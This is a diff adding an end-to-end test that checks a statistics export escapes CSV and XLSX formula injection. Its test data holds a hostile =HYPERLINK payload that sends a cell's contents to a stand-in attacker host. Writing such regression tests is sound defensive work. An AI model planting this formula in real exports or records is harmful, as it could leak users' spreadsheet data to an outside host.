@@ -91,6 +91,37 @@ describe('statistics exports (e2e)', () => {
     expect(sheet!.getRow(5).getCell(6).numFmt).toBe('0.00%');
   });
 
+  it('a name that reads as a formula leaves as text in CSV and XLSX (CSV injection)', async () => {
+    const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    await t.ds.query(`UPDATE regions SET name = $1 WHERE id = $2`, [EVIL, world.regions.townX]);
+    await t.ds.query(`UPDATE users SET display_name = $1 WHERE id = $2`, [
+      EVIL,
+      world.users.mediatorX1,
+    ]);
+    for (const by of ['township', 'mediator']) {
+      const csv = await download('clerka', `format=csv&by=${by}&${APRIL}`);
+      const text = (csv.body as Buffer).subarray(3).toString('utf8');
+      // csv-stringify quotes the cell (it holds quotes and a comma); inside, it starts with '.
+      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
+      const cells = text.split('\r\n').map((line) => line.split(',')[0]);
+      expect(cells.filter((c) => /^"?[=+\-@\t\r]/.test(c))).toEqual([]);
+
+      const xlsx = await download('clerka', `format=xlsx&by=${by}&${APRIL}`);
+      const book = new ExcelJS.Workbook();
+      await book.xlsx.load(new Uint8Array(xlsx.body as Buffer).buffer as ExcelJS.Buffer);
+      const labels: unknown[] = [];
+      book.getWorksheet('统计')!.eachRow((row) => {
+        for (let i = 1; i <= row.cellCount; i += 1) {
+          const cell = row.getCell(i);
+          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
+          if (typeof cell.value === 'string') labels.push(cell.value);
+        }
+      });
+      expect(labels).toContain(`'${EVIL}`);
+      expect(labels.filter((v) => /^[=+\-@\t\r]/.test(String(v)))).toEqual([]);
+    }
+  });
+
   it('scope: a township supervisor’s exports never hold another township', async () => {
     for (const format of ['csv', 'xlsx']) {
       for (const by of ['township', 'village', 'court', 'month']) {
